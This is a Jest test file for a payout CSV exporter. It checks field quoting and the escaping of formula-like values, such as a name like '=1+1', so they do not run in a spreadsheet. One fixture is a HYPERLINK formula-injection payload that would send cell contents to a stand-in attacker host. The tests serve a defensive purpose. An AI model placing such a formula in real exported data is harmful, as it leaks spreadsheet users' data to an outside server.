import { describe, expect, it } from '@jest/globals';
import { csvField, payoutFileCsv } from './payout-file.js';

describe('the bulk payout file', () => {
  it.each([
    ['plain', 'plain'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['+91 98', "'+91 98"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['Ravi = Kumar', 'Ravi = Kumar'],
  ])('writes %j as %s', (value, expected) => {
    expect(csvField(value)).toBe(expected);
  });

  it("keeps a user's formula-like name from running in a spreadsheet, and the amount in rupees", () => {
    const csv = payoutFileCsv([{ id: 7, userId: 3, amount: 50001, upiId: 'ravi@okaxis', contactName: '=1+1' }]);
    expect(csv.split('\r\n')[1]).toMatch(/^'=1\+1,ravi@okaxis,500\.01,/);
  });
});
